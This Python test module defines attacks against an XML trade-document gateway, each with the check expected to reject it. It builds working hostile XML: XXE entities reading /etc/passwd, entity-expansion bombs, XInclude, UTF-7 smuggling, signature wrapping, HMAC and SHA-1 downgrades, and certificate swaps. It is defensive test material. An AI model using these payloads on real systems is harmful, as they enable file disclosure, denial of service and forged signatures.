"""Every attack of the suite, by name, with the check and code that must refuse it at the gateway and at a node.

Each :class:`Attack` builds its hostile message at test time from legitimately signed material (see
:mod:`tests.attacks.forge`). Parser and signature attacks come at two levels:

- ``...-in-envelope``: on the envelope itself (the sending node's signature is what is attacked), refused by the
  gateway's ``parse`` or ``sender-authentication`` check (or ``envelope-schema``, when the schema is what an
  attack first breaks);
- ``...-in-document``: on the issuer-signed trade document, carried inside a properly node-signed envelope so
  that it reaches the document checks (``document-type`` parses the payload, ``document-signature``,
  ``issuer-trust``).

Expectations are exact: the named check failed and its findings include the code. The gateway answers with the
HTTP status; a node answers 200 with its signed receipt REJECTED naming the code and check, or (for what never
reaches its checks) an error status with ``{"code"}``.
"""

from __future__ import annotations

import base64
import copy
import hmac
import re
from collections.abc import Callable
from dataclasses import dataclass

from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree

from exchange._algorithms import DigestMethod, Namespace, SignatureMethod, Transform
from exchange._dsig import sign_document
from exchange._envelope import ENVELOPE_NS, Party, ReceiptStatus, build_receipt
from exchange._errors import Code
from exchange._findings import Finding
from exchange._pki import Credential
from exchange._receipts import sign_rejection
from exchange._xml import parse_xml
from tests.attacks.forge import (
    COO,
    DS,
    PHYTO,
    WEAK_RSA_POLICY,
    Forge,
    b64,
    c14n,
    content_digest,
    ds,
    resign,
    sample,
    serialise,
    signature_of,
)

MIB = 1024 * 1024


def _e(local: str) -> str:
    """An element of the envelope vocabulary, in Clark notation."""
    return f"{{{ENVELOPE_NS}}}{local}"


@dataclass(frozen=True)
class Expect:
    """Where and how an attack must be refused. ``check`` None: refused before any check (HTTP error only)."""

    check: str | None
    code: str
    status: int


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Forge, str], bytes]
    gateway: Expect
    node: Expect
    prelude: Callable[[Forge, str], bytes] | None = None  # a legitimate message with the same id, sent first
    network: bool = False  # the attack points at the canary: assert nothing connected

    def __str__(self) -> str:
        return self.name


# --- parser attacks -----------------------------------------------------------------------------------------------

_ROOT_START = re.compile(rb"<(?![?!])([^\s>/]+)[^>]*>")


def _root_start(data: bytes) -> re.Match[bytes]:
    match = _ROOT_START.search(data)
    assert match is not None
    return match


def _after_root_start(data: bytes, insert: bytes) -> bytes:
    end = _root_start(data).end()
    return data[:end] + insert + data[end:]


def _in_root_start(data: bytes, insert: bytes) -> bytes:
    """``insert`` (attributes, namespace declarations) inside the root's start tag."""
    match = _root_start(data)
    at = match.start() + 1 + len(match.group(1))
    return data[:at] + b" " + insert + data[at:]


def _with_doctype(data: bytes, subset: bytes = b"", *, system: bytes | None = None, reference: bytes = b"") -> bytes:
    name = _root_start(data).group(1)
    declaration = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0
    external = b' SYSTEM "' + system + b'"' if system is not None else b""
    internal = b" [" + subset + b"]" if subset else b""
    doctype = b"\n<!DOCTYPE " + name + external + internal + b">"
    hostile = data[:declaration] + doctype + data[declaration:]
    return _after_root_start(hostile, reference) if reference else hostile


ParseEdit = Callable[[Forge, bytes], bytes]


def _xxe_file(f: Forge, data: bytes) -> bytes:
    return _with_doctype(data, b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', reference=b"&xxe;")


def _xxe_network(f: Forge, data: bytes) -> bytes:
    url = f.canary.url("xxe").encode()
    return _with_doctype(data, b'<!ENTITY xxe SYSTEM "' + url + b'">', reference=b"&xxe;")


def _xxe_parameter_entity(f: Forge, data: bytes) -> bytes:
    url = f.canary.url("evil.dtd").encode()
    return _with_doctype(data, b'<!ENTITY % ext SYSTEM "' + url + b'"> %ext;')


def _billion_laughs(f: Forge, data: bytes) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">'] + [
        b"<!ENTITY lol%d \"%s\">" % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
    ]
    return _with_doctype(data, b"".join(entities), reference=b"&lol9;")


def _quadratic_blowup(f: Forge, data: bytes) -> bytes:
    # one 40,000-character entity referenced 40,000 times: 1.6 GB once expanded, 200 KB on the wire
    return _with_doctype(data, b'<!ENTITY a "' + b"x" * 40_000 + b'">', reference=b"&a;" * 40_000)


def _external_dtd(f: Forge, data: bytes) -> bytes:
    return _with_doctype(data, system=f.canary.url("evil.dtd").encode())


def _internal_dtd_defaults(f: Forge, data: bytes) -> bytes:
    # a DTD that would add attributes through defaults if it were applied
    name = _root_start(data).group(1)
    return _with_doctype(data, b"<!ATTLIST " + name + b' injected CDATA "by-the-dtd">')


def _xinclude(f: Forge, data: bytes) -> bytes:
    return _after_root_start(
        data, b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )


def _deep_nesting(f: Forge, data: bytes) -> bytes:
    return _after_root_start(data, b"<x>" * 5_000 + b"</x>" * 5_000)


def _invalid_utf8(f: Forge, data: bytes) -> bytes:
    return _after_root_start(data, b"<x>caf\xc3\x28 \xff\xfe</x>")


def _huge_attribute_value(data: bytes, size: int) -> bytes:
    return _in_root_start(data, b'huge="' + b"A" * size + b'"')


def _attribute_flood(f: Forge, data: bytes) -> bytes:
    return _in_root_start(data, b" ".join(b'a%d="x"' % index for index in range(100_000)))


def _namespace_flood(f: Forge, data: bytes) -> bytes:
    # unused declarations: exclusive C14N ignores them, so they do not even break the signature
    return _in_root_start(data, b" ".join(b'xmlns:n%d="urn:n:%d"' % (index, index) for index in range(50_000)))


def _xml_prefix_rebound(f: Forge, data: bytes) -> bytes:
    return _in_root_start(data, b'xmlns:xml="urn:attacker"')


def _undeclared_prefix(f: Forge, data: bytes) -> bytes:
    return _after_root_start(data, b"<evil:x>1</evil:x>")


def _truncated(f: Forge, data: bytes) -> bytes:
    return data[: len(data) // 2]


# --- encodings: only UTF-8 and UTF-16, with a byte-order mark that agrees -----------------------------------------

_DECLARATION = re.compile(rb"\A(?:\xef\xbb\xbf)?<\?xml[^>]*\?>")


def _declared(data: bytes, encoding: str | None) -> str:
    """The document (UTF-8 in) as text, its XML declaration naming ``encoding`` (none when None)."""
    body = _DECLARATION.sub(b"", data).decode("utf-8")
    return body if encoding is None else f'<?xml version="1.0" encoding="{encoding}"?>{body}'


def _utf7(data: bytes, hide: str, name: str = "UTF-7") -> bytes:
    """The document in UTF-7, every character of ``hide`` (and all non-ASCII) in its base64 form after the
    declaration: ``=`` is ``+AD0-``, so no byte count of ``=`` or ``xmlns`` sees what the parser will read."""
    out = [f'<?xml version="1.0" encoding="{name}"?>'.encode("ascii")]
    text = _declared(data, None)
    for char in text:
        if char == "+":
            out.append(b"+-")
        elif ord(char) < 128 and char not in hide:
            out.append(char.encode("ascii"))
        else:
            out.append(b"+" + base64.b64encode(char.encode("utf-16-be")).rstrip(b"=") + b"-")
    return b"".join(out)


def _utf7_namespace_flood(f: Forge, data: bytes) -> bytes:
    flooded = _in_root_start(data, b" ".join(b'xmlns:n%d="urn:n:%d"' % (index, index) for index in range(20_000)))
    return _utf7(flooded, hide="=x")


def _utf7_attribute_flood(f: Forge, data: bytes) -> bytes:
    flooded = _in_root_start(data, b" ".join(b'a%d="x"' % index for index in range(20_000)))
    return _utf7(flooded, hide="=")


def _utf7_plain(f: Forge, data: bytes) -> bytes:
    return _utf7(data, hide="=<", name="utf-7")


def _version(version: bytes, *, quote: bytes = b'"', encoding: str | None = None) -> ParseEdit:
    """The document with an XML declaration naming ``version`` (XML 1.1 reads NEL and U+2028 as line ends and
    ``&#x1;`` as a character, where libxml2 reads 1.0 with a warning)."""

    def edit(f: Forge, data: bytes) -> bytes:
        body = _DECLARATION.sub(b"", data)
        declaration = b"<?xml version=" + quote + version + quote + b' encoding="UTF-8"?>'
        if encoding is None:
            return declaration + body
        return (declaration.replace(b"UTF-8", encoding.upper().encode()) + body).decode("utf-8").encode(encoding)

    return edit


def _xml11_with_nel(f: Forge, data: bytes) -> bytes:
    """XML 1.1 with a NEL where 1.0 sees a character and 1.1 a line end (inside the root's content)."""
    return _version(b"1.1")(f, _after_root_start(data, "\u0085".encode()))


def _latin1(f: Forge, data: bytes) -> bytes:
    return _declared(data, "ISO-8859-1").encode("latin-1", "xmlcharrefreplace")


def _ebcdic(f: Forge, data: bytes) -> bytes:
    return _declared(data, "IBM037").encode("cp037", "xmlcharrefreplace")


def _utf32(f: Forge, data: bytes) -> bytes:
    return _declared(data, "UTF-32").encode("utf-32")


def _utf16_bom_declares_utf8(f: Forge, data: bytes) -> bytes:
    return _declared(data, "UTF-8").encode("utf-16")


def _utf8_bom_declares_utf16(f: Forge, data: bytes) -> bytes:
    return b"\xef\xbb\xbf" + _declared(data, "UTF-16").encode("utf-8")


def _utf16_without_bom(f: Forge, data: bytes) -> bytes:
    return _declared(data, "UTF-16").encode("utf-16-le")


def _parse_attack(name: str, edit: ParseEdit, code: str, *, network: bool = False) -> list[Attack]:
    return [
        Attack(
            f"{name}-in-envelope",
            lambda f, mid: edit(f, f.message(mid)),
            gateway=Expect("parse", code, 422),
            node=Expect("parse", code, 200),
            network=network,
        ),
        Attack(
            f"{name}-in-document",
            lambda f, mid: f.envelope(edit(f, f.document()), mid),
            gateway=Expect("document-type", code, 422),
            node=Expect("document-type", code, 200),
            network=network,
        ),
    ]


# --- signature attacks --------------------------------------------------------------------------------------------

SigEdit = Callable[[Forge, etree._Element, Credential], etree._Element | None]


def _edited(data: bytes, edit: Callable[[etree._Element], etree._Element | None]) -> bytes:
    tree = parse_xml(data)
    root = edit(tree.getroot())
    return serialise(root if root is not None else tree)


def _first_text(root: etree._Element) -> etree._Element:
    """What an attacker would change: in an envelope its ConversationID (free enough that the schema still
    holds), in a document the first element outside the signature that carries text."""
    if root.tag == _e("Envelope"):
        found = root.find(f"{_e('Header')}/{_e('BusinessScope')}/{_e('ConversationID')}")
        assert found is not None
        return found
    for element in root.iter(etree.Element):
        if element.text and element.text.strip() and not str(element.tag).startswith(f"{{{DS.value}}}"):
            return element
    raise AssertionError("no text to tamper with")


def _tampered_copy(root: etree._Element) -> etree._Element:
    evil = copy.deepcopy(root)
    evil.remove(evil[-1])
    target = _first_text(evil)
    target.text = "EVIL-" + (target.text or "")
    return evil


def _set_transforms(root: etree._Element, *algorithms: str) -> list[etree._Element]:
    transforms = ds(signature_of(root), "SignedInfo/Reference/Transforms")
    for child in list(transforms):
        transforms.remove(child)
    return [etree.SubElement(transforms, DS.tag("Transform"), Algorithm=algorithm) for algorithm in algorithms]


def _transform_xslt(f: Forge, root: etree._Element, signer: Credential) -> None:
    _, xslt = _set_transforms(root, Transform.ENVELOPED.value, Transform.XSLT.value)
    xsl = Namespace.XSL.value
    sheet = etree.SubElement(xslt, f"{{{xsl}}}stylesheet", version="1.0", nsmap={"xsl": xsl})
    template = etree.SubElement(sheet, f"{{{xsl}}}template", match="/")
    etree.SubElement(template, f"{{{xsl}}}copy-of", select=f"document('{f.canary.url('xslt')}')")
    resign(root, signer.key)


def _transform_xpath(f: Forge, root: etree._Element, signer: Credential) -> None:
    xpath, _ = _set_transforms(root, Transform.XPATH.value, Transform.EXC_C14N.value)
    etree.SubElement(xpath, DS.tag("XPath")).text = "not(ancestor-or-self::ds:Signature)"
    resign(root, signer.key)


def _transform_xpath_filter2(f: Forge, root: etree._Element, signer: Credential) -> None:
    _, filter2, _ = _set_transforms(
        root, Transform.ENVELOPED.value, Transform.XPATH_FILTER2.value, Transform.EXC_C14N.value
    )
    xpath = etree.SubElement(filter2, "{http://www.w3.org/2002/06/xmldsig-filter2}XPath", Filter="intersect")
    xpath.text = "//*[local-name()='Header']"
    resign(root, signer.key)


def _external_reference(f: Forge, root: etree._Element, signer: Credential) -> None:
    ds(signature_of(root), "SignedInfo/Reference").set("URI", f.canary.url("signed-elsewhere.xml"))
    resign(root, signer.key)


def _wrap_in_new_root(f: Forge, root: etree._Element, signer: Credential) -> etree._Element:
    """XSW: a new root of the same name with the attacker's content, the signed original inside it."""
    evil = _tampered_copy(root)
    evil.append(root)
    return evil


def _wrap_in_signature_object(f: Forge, root: etree._Element, signer: Credential) -> etree._Element:
    """XSW: the attacker's content as the document, the signed original hidden in a ds:Object."""
    evil = _tampered_copy(root)
    signature = signature_of(root)
    root.remove(signature)
    etree.SubElement(signature, DS.tag("Object")).append(root)
    evil.append(signature)
    return evil


def _signature_moved(f: Forge, root: etree._Element, signer: Credential) -> None:
    signature = signature_of(root)
    root.remove(signature)
    root[0].append(signature)


def _duplicate_ids(f: Forge, root: etree._Element, signer: Credential) -> None:
    """Two elements with the same Id and a reference to it: which one is signed depends on the resolver."""
    signature = signature_of(root)
    signature.set("Id", "signed")
    ds(signature, "KeyInfo").set("Id", "signed")
    ds(signature, "SignedInfo/Reference").set("URI", "#signed")
    resign(root, signer.key)


def _second_signature(f: Forge, root: etree._Element, signer: Credential) -> None:
    root.append(copy.deepcopy(signature_of(root)))


def _reference_inner_element(f: Forge, root: etree._Element, signer: Credential) -> None:
    """The signature covers its own KeyInfo only (honestly digested and signed); the rest is the attacker's."""
    signature = signature_of(root)
    key_info = ds(signature, "KeyInfo")
    key_info.set("Id", "only-this")
    reference = ds(signature, "SignedInfo/Reference")
    reference.set("URI", "#only-this")
    ds(reference, "DigestValue").text = b64(content_digest(root, element=key_info))
    resign(root, signer.key)
    target = _first_text(root)
    target.text = "EVIL-" + (target.text or "")


def _comment_injection(f: Forge, root: etree._Element, signer: Credential) -> None:
    target = _first_text(root)
    text = target.text or ""
    target.text = text[: len(text) // 2]
    comment = etree.Comment("")
    comment.tail = text[len(text) // 2 :]
    target.insert(0, comment)


def _whitespace_injection(f: Forge, root: etree._Element, signer: Credential) -> None:
    if root.tag == _e("Envelope"):  # a line break inside the base64 payload: still schema-valid
        payload = root.find(_e("Payload"))
        assert payload is not None
        text = payload.text or ""
        payload.text = text[:64] + "\n" + text[64:]
        return
    target = _first_text(root)
    target.text = (target.text or "") + " "


def _keyinfo_swap(f: Forge, root: etree._Element, signer: Credential) -> None:
    """The signature stays; KeyInfo now names a self-signed impostor with the signer's subject."""
    impostor = f.world.impostor_node if "Envelope" in str(root.tag) else f.world.impostor_chamber
    ds(signature_of(root), "KeyInfo/X509Data/X509Certificate").text = b64(impostor.certificate.public_bytes(
        Encoding.DER))


def _keyinfo_damaged_subject(f: Forge, root: etree._Element, signer: Credential) -> None:
    """One byte of the signer certificate's subject made invalid UTF-8: the key, and so the XML signature, still
    hold, but the certificate no longer parses (a crash in trust evaluation if it got that far)."""
    element = ds(signature_of(root), "KeyInfo/X509Data/X509Certificate")
    der = signer.certificate.public_bytes(Encoding.DER)
    name = signer.name.encode()
    assert name in der
    element.text = b64(der.replace(name, b"\xff" + name[1:], 1))


def _hmac_downgrade(f: Forge, root: etree._Element, signer: Credential) -> None:
    """Key confusion: HMAC keyed with the signer's public certificate, which anyone has."""
    signature = signature_of(root)
    ds(signature, "SignedInfo/SignatureMethod").set("Algorithm", SignatureMethod.HMAC_SHA256.value)
    public = signer.certificate.public_bytes(Encoding.DER)
    mac = hmac.new(public, c14n(ds(signature, "SignedInfo")), "sha256").digest()
    ds(signature, "SignatureValue").text = b64(mac)


def _sha1_downgrade(f: Forge, root: etree._Element, signer: Credential) -> None:
    """SHA-1 digest and ECDSA-SHA1 signature, honestly computed with the signer's own key."""
    signature = signature_of(root)
    reference = ds(signature, "SignedInfo/Reference")
    ds(reference, "DigestMethod").set("Algorithm", DigestMethod.SHA1.value)
    ds(reference, "DigestValue").text = b64(content_digest(root, "sha1"))
    ds(signature, "SignedInfo/SignatureMethod").set("Algorithm", SignatureMethod.ECDSA_SHA1.value)
    resign(root, signer.key, "sha1")


def _truncated_signature_value(f: Forge, root: etree._Element, signer: Credential) -> None:
    value = ds(signature_of(root), "SignatureValue")
    raw = base64.b64decode(value.text or "")
    value.text = b64(raw[: len(raw) // 2])


def _ds_prefix_lookalike(f: Forge, root: etree._Element, signer: Credential) -> etree._Element:
    """The signature moved into a look-alike namespace (one character more): it is no signature at all."""
    data = serialise(root).replace(
        b'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"', b'xmlns:ds="http://www.w3.org/2000/09/xmldsig#/"'
    )
    return parse_xml(data).getroot()


def _ds_prefix_renamed(f: Forge, root: etree._Element, signer: Credential) -> etree._Element:
    """Same namespace, another prefix: SignedInfo's canonical form names the prefix, so the value breaks."""
    data = serialise(root).replace(b"<ds:", b"<dsx:").replace(b"</ds:", b"</dsx:").replace(b"xmlns:ds=", b"xmlns:dsx=")
    return parse_xml(data).getroot()


def _signature_attack(
    name: str, edit: SigEdit, code: str, *, in_envelope: Expect | None = None, node_envelope: Expect | None = None,
    network: bool = False,
) -> list[Attack]:
    def on_envelope(f: Forge, mid: str) -> bytes:
        return _edited(f.message(mid), lambda root: edit(f, root, f.world.node("AA")))

    def on_document(f: Forge, mid: str) -> bytes:
        return f.envelope(_edited(f.document(), lambda root: edit(f, root, f.world.chamber)), mid)

    envelope_expect = in_envelope or Expect("sender-authentication", code, 401)
    return [
        Attack(f"{name}-in-envelope", on_envelope, gateway=envelope_expect,
               node=node_envelope or Expect(envelope_expect.check, envelope_expect.code, 200), network=network),
        Attack(f"{name}-in-document", on_document, gateway=Expect("document-signature", code, 422),
               node=Expect("document-signature", code, 200), network=network),
    ]


# --- CDATA in signed content: C14N dissolves it, a DOM reader does not ------------------------------------------

_CONVERSATION = re.compile(rb"(<ConversationID>)([^<]+)(</ConversationID>)")
_FIRST_TEXT = re.compile(rb"(<(?![?!/])[^>]*>)([^<\s][^<]+)(</)")
_SIGNATURE_VALUE = re.compile(rb"(<ds:SignatureValue>)([^<]+)(</ds:SignatureValue>)")
BytesEdit = Callable[[bytes], bytes]


def _in_signed_text(data: bytes, cut: Callable[[bytes], bytes]) -> bytes:
    """``cut`` applied to the text an attacker would split: the envelope's ConversationID, else the first text."""
    pattern = _CONVERSATION if _CONVERSATION.search(data) else _FIRST_TEXT
    return pattern.sub(lambda m: m.group(1) + cut(m.group(2)) + m.group(3), data, count=1)


def _cdata_splits_text(data: bytes) -> bytes:
    return _in_signed_text(data, lambda text: text[: len(text) // 2] + b"<![CDATA[" + text[len(text) // 2 :] + b"]]>")


def _cdata_wraps_text(data: bytes) -> bytes:
    return _in_signed_text(data, lambda text: b"<![CDATA[" + text + b"]]>")


def _cdata_empty_in_text(data: bytes) -> bytes:
    return _in_signed_text(data, lambda text: text[:2] + b"<![CDATA[]]>" + text[2:])


def _cdata_in_signature_value(data: bytes) -> bytes:
    edited = _SIGNATURE_VALUE.sub(lambda m: m.group(1) + b"<![CDATA[" + m.group(2) + b"]]>" + m.group(3), data, count=1)
    assert edited != data
    return edited


def _bytes_signature_attack(name: str, edit: BytesEdit, code: str) -> list[Attack]:
    """An edit of the signed bytes (what a tree cannot express), at envelope and at document level."""
    return [
        Attack(f"{name}-in-envelope", lambda f, mid: edit(f.message(mid)),
               gateway=Expect("sender-authentication", code, 401), node=Expect("sender-authentication", code, 200)),
        Attack(f"{name}-in-document", lambda f, mid: f.envelope(edit(f.document()), mid),
               gateway=Expect("document-signature", code, 422), node=Expect("document-signature", code, 200)),
    ]


# --- protocol documents as the payload: only trade documents travel in an envelope --------------------------------


def _receipt_as_payload(issuer: str) -> Callable[[Forge, str], bytes]:
    """AA's node signs a receipt (naming ``issuer``) and sends it as document type ``receipt``."""

    def build(f: Forge, mid: str) -> bytes:
        node = f.world.node("AA")
        receipt = build_receipt(ref_to_message_id=f"other-{mid}", envelope=f.message(f"other-{mid}"),
                                issuer=Party(issuer), status=ReceiptStatus.RECEIVED, issued=f.world.moment)
        return f.envelope(sign_document(receipt, node.key, node.signing_chain), mid, type_id="receipt")

    return build


def _rejection_as_payload(signer: Callable[[Forge], Credential], type_id: str = "rejection"
                          ) -> Callable[[Forge, str], bytes]:
    """A signed rejection report (of a message that never was) sent as the payload, declared as ``type_id``."""

    def build(f: Forge, mid: str) -> bytes:
        credential = signer(f)
        report = sign_rejection(signer=credential, issuer="GW", submitted=f.message(f"refused-{mid}"),
                                message_id=f"refused-{mid}", http_status=422, issued=f.world.moment,
                                findings=[Finding.of(Code.SCHEMA_INVALID, "envelope-schema", "made up")])
        return f.envelope(report, mid, type_id=type_id)

    return build


def _envelope_as_payload(f: Forge, mid: str) -> bytes:
    return f.envelope(f.message(f"inner-{mid}"), mid, type_id="envelope")


def _trust_list_as_payload(f: Forge, mid: str) -> bytes:
    workspace = f.world.workspace
    return f.envelope(workspace.file(workspace.country("AA").trust_list).read_bytes(), mid, type_id="trust-list")


def _not_trade(name: str, build: Callable[[Forge, str], bytes], *, routed: bool = True) -> Attack:
    """``routed``: an agreement lets the type flow (the demo agreements name envelope and receipt), so only the
    document-type check refuses it (422); otherwise routing refuses too (403)."""
    return Attack(name, build, gateway=Expect("document-type", "DOCTYPE-NOT-TRADE", 422 if routed else 403),
                  node=Expect("document-type", "DOCTYPE-NOT-TRADE", 200))


def _schema(code: str = "SCHEMA-ELEMENT-UNEXPECTED") -> Expect:
    return Expect("envelope-schema", code, 422)


# --- envelope-only attacks ----------------------------------------------------------------------------------------


def _oversize(f: Forge, mid: str) -> bytes:
    message = f.message(mid)
    return _after_root_start(message, b"<x>" + b"A" * (10 * MIB) + b"</x>")


def _header_tampered(f: Forge, mid: str) -> bytes:
    return f.message(mid).replace(b'<Identifier Authority="iso3166-1">BB<', b'<Identifier Authority="iso3166-1">CC<')


def _payload_not_base64(f: Forge, mid: str) -> bytes:
    """A payload that libxml2's base64Binary check lets through, signed by the node."""
    envelope = f.envelope(f.document(), mid, sign=False).replace(
        b'<Payload mediaType="application/xml">', b'<Payload mediaType="application/xml">@')
    node = f.world.node("AA")
    return sign_document(envelope, node.key, node.signing_chain)


def _replay_other_payload(f: Forge, mid: str) -> bytes:
    return f.envelope(f.document(PHYTO), mid, type_id=PHYTO)


def _trust(name: str, signer: Callable[[Forge], Credential], code: str, *, policy: bool = False) -> Attack:
    def build(f: Forge, mid: str) -> bytes:
        return f.envelope(f.document(signer=signer(f), policy=WEAK_RSA_POLICY if policy else None), mid)

    check = "document-signature" if code.startswith("SIG-") else "issuer-trust"
    return Attack(name, build, gateway=Expect(check, code, 422), node=Expect(check, code, 200))


ATTACKS: tuple[Attack, ...] = (
    # hostile XML
    *_parse_attack("xxe-file", _xxe_file, "XML-EXTERNAL-FORBIDDEN"),
    *_parse_attack("xxe-network", _xxe_network, "XML-EXTERNAL-FORBIDDEN", network=True),
    *_parse_attack("xxe-parameter-entity", _xxe_parameter_entity, "XML-EXTERNAL-FORBIDDEN", network=True),
    *_parse_attack("billion-laughs", _billion_laughs, "XML-ENTITY-FORBIDDEN"),
    *_parse_attack("quadratic-blowup", _quadratic_blowup, "XML-ENTITY-FORBIDDEN"),
    *_parse_attack("external-dtd", _external_dtd, "XML-EXTERNAL-FORBIDDEN", network=True),
    *_parse_attack("dtd-attribute-defaults", _internal_dtd_defaults, "XML-DTD-FORBIDDEN"),
    *_parse_attack("xinclude", _xinclude, "XML-XINCLUDE-FORBIDDEN"),
    *_parse_attack("deep-nesting", _deep_nesting, "XML-TOO-DEEP"),
    *_parse_attack("invalid-utf8", _invalid_utf8, "XML-ENCODING"),
    *_parse_attack("attribute-flood", _attribute_flood, "XML-LIMIT"),
    *_parse_attack("namespace-flood", _namespace_flood, "XML-LIMIT"),
    *_parse_attack("xml-prefix-rebound", _xml_prefix_rebound, "XML-MALFORMED"),
    *_parse_attack("undeclared-prefix", _undeclared_prefix, "XML-MALFORMED"),
    *_parse_attack("truncated", _truncated, "XML-MALFORMED"),
    # encodings: only UTF-8 and UTF-16 reach libxml2, and a byte-order mark must agree with the declaration
    *_parse_attack("utf7-namespace-flood", _utf7_namespace_flood, "XML-ENCODING-FORBIDDEN"),
    *_parse_attack("utf7-attribute-flood", _utf7_attribute_flood, "XML-ENCODING-FORBIDDEN"),
    *_parse_attack("utf7-markup-hidden", _utf7_plain, "XML-ENCODING-FORBIDDEN"),
    *_parse_attack("latin-1-declared", _latin1, "XML-ENCODING-FORBIDDEN"),
    *_parse_attack("ebcdic", _ebcdic, "XML-ENCODING-FORBIDDEN"),
    *_parse_attack("utf32-with-bom", _utf32, "XML-ENCODING-FORBIDDEN"),
    *_parse_attack("utf16-bom-declares-utf8", _utf16_bom_declares_utf8, "XML-BOM-MISMATCH"),
    *_parse_attack("utf8-bom-declares-utf16", _utf8_bom_declares_utf16, "XML-BOM-MISMATCH"),
    *_parse_attack("utf16-without-bom", _utf16_without_bom, "XML-BOM-MISMATCH"),
    # versions: only XML 1.0
    *_parse_attack("xml-1.1-declared", _version(b"1.1"), "XML-VERSION-FORBIDDEN"),
    *_parse_attack("xml-1.1-single-quoted", _version(b"1.1", quote=b"'"), "XML-VERSION-FORBIDDEN"),
    *_parse_attack("xml-1.1-in-utf16", _version(b"1.1", encoding="utf-16"), "XML-VERSION-FORBIDDEN"),
    *_parse_attack("xml-1.1-with-nel-line-end", _xml11_with_nel, "XML-VERSION-FORBIDDEN"),
    *_parse_attack("xml-version-2.0", _version(b"2.0"), "XML-VERSION-FORBIDDEN"),
    Attack("huge-attribute-value-in-envelope", lambda f, mid: _huge_attribute_value(f.message(mid), 9 * MIB),
           gateway=_schema("SCHEMA-ATTRIBUTE-INVALID"), node=Expect("envelope-schema", "SCHEMA-ATTRIBUTE-INVALID", 200)),
    Attack("huge-attribute-value-in-document",
           lambda f, mid: f.envelope(f.document(data=_huge_attribute_value(sample(), 6 * MIB)), mid),
           gateway=Expect("document-schema", "SCHEMA-ATTRIBUTE-INVALID", 422),
           node=Expect("document-schema", "SCHEMA-ATTRIBUTE-INVALID", 200)),
    Attack("empty-body", lambda f, mid: b"", gateway=Expect("parse", "XML-EMPTY", 422),
           node=Expect("parse", "XML-EMPTY", 200)),
    Attack("oversize", _oversize, gateway=Expect("size", "XML-TOO-LARGE", 413), node=Expect(None, "XML-TOO-LARGE", 413)),
    # signatures
    *_signature_attack("transform-xslt", _transform_xslt, "SIG-TRANSFORM-FORBIDDEN", network=True),
    *_signature_attack("transform-xpath", _transform_xpath, "SIG-TRANSFORM-FORBIDDEN"),
    *_signature_attack("transform-xpath-filter2", _transform_xpath_filter2, "SIG-TRANSFORM-FORBIDDEN"),
    *_signature_attack("external-reference-uri", _external_reference, "SIG-REFERENCE-FORBIDDEN", network=True),
    *_signature_attack("wrap-in-new-root", _wrap_in_new_root, "SIG-STRUCTURE", in_envelope=_schema()),
    *_signature_attack("wrap-in-signature-object", _wrap_in_signature_object, "SIG-STRUCTURE"),
    *_signature_attack("signature-moved", _signature_moved, "SIG-STRUCTURE", in_envelope=_schema()),
    *_signature_attack("duplicate-ids", _duplicate_ids, "SIG-REFERENCE-FORBIDDEN"),
    *_signature_attack("second-signature", _second_signature, "SIG-STRUCTURE", in_envelope=_schema()),
    *_signature_attack("reference-inner-element", _reference_inner_element, "SIG-REFERENCE-FORBIDDEN"),
    *_signature_attack("comment-injected-in-signed-text", _comment_injection, "SIG-COMMENT-IN-TEXT"),
    *_bytes_signature_attack("cdata-splits-signed-text", _cdata_splits_text, "SIG-CDATA-IN-TEXT"),
    *_bytes_signature_attack("cdata-wraps-signed-text", _cdata_wraps_text, "SIG-CDATA-IN-TEXT"),
    *_bytes_signature_attack("empty-cdata-in-signed-text", _cdata_empty_in_text, "SIG-CDATA-IN-TEXT"),
    *_bytes_signature_attack("cdata-in-signature-value", _cdata_in_signature_value, "SIG-CDATA-IN-TEXT"),
    *_signature_attack("whitespace-injected-in-signed-text", _whitespace_injection, "SIG-DIGEST-MISMATCH"),
    *_signature_attack("keyinfo-swapped-for-self-signed", _keyinfo_swap, "SIG-VALUE-INVALID"),
    *_signature_attack("keyinfo-certificate-damaged", _keyinfo_damaged_subject, "SIG-KEYINFO-INVALID"),
    *_signature_attack("hmac-downgrade", _hmac_downgrade, "SIG-ALGORITHM-WEAK"),
    *_signature_attack("sha1-downgrade", _sha1_downgrade, "SIG-ALGORITHM-WEAK"),
    *_signature_attack("truncated-signature-value", _truncated_signature_value, "SIG-VALUE-INVALID"),
    *_signature_attack("ds-namespace-lookalike", _ds_prefix_lookalike, "SIG-MISSING", in_envelope=_schema()),
    *_signature_attack("ds-prefix-renamed-after-signing", _ds_prefix_renamed, "SIG-VALUE-INVALID"),
    Attack("rsa-1024-in-document", lambda f, mid: f.envelope(f.document(signer=f.world.weak_rsa,
                                                                           policy=WEAK_RSA_POLICY), mid),
           gateway=Expect("document-signature", "SIG-KEY-WEAK", 422), node=Expect("document-signature", "SIG-KEY-WEAK", 200)),
    Attack("rsa-1024-in-envelope", lambda f, mid: f.envelope(f.document(), mid, signer=f.world.weak_rsa_node,
                                                               policy=WEAK_RSA_POLICY),
           gateway=Expect("sender-authentication", "SIG-KEY-WEAK", 401),
           node=Expect("sender-authentication", "SIG-KEY-WEAK", 200)),
    Attack("self-signed-issuer-in-keyinfo", lambda f, mid: f.envelope(f.document(signer=f.world.impostor_chamber), mid),
           gateway=Expect("issuer-trust", "TRUST-CHAIN-UNTRUSTED", 422),
           node=Expect("issuer-trust", "TRUST-CHAIN-UNTRUSTED", 200)),
    Attack("self-signed-node-in-keyinfo", lambda f, mid: f.envelope(f.document(), mid, signer=f.world.impostor_node),
           gateway=Expect("sender-authentication", "GW-SENDER-MISMATCH", 403),
           node=Expect("sender-authentication", "NODE-SENDER-MISMATCH", 200)),
    # issuer trust
    _trust("expired-issuer", lambda f: f.world.expired, "TRUST-CERT-EXPIRED"),
    _trust("not-yet-valid-issuer", lambda f: f.world.future, "TRUST-CERT-NOT-YET-VALID"),
    _trust("revoked-issuer", lambda f: f.world.revoked, "TRUST-CERT-REVOKED"),
    _trust("untrusted-issuer", lambda f: f.world.foreign, "TRUST-CHAIN-UNTRUSTED"),
    _trust("unauthorised-issuer", lambda f: f.world.nppo, "TRUST-ISSUER-NOT-AUTHORISED"),
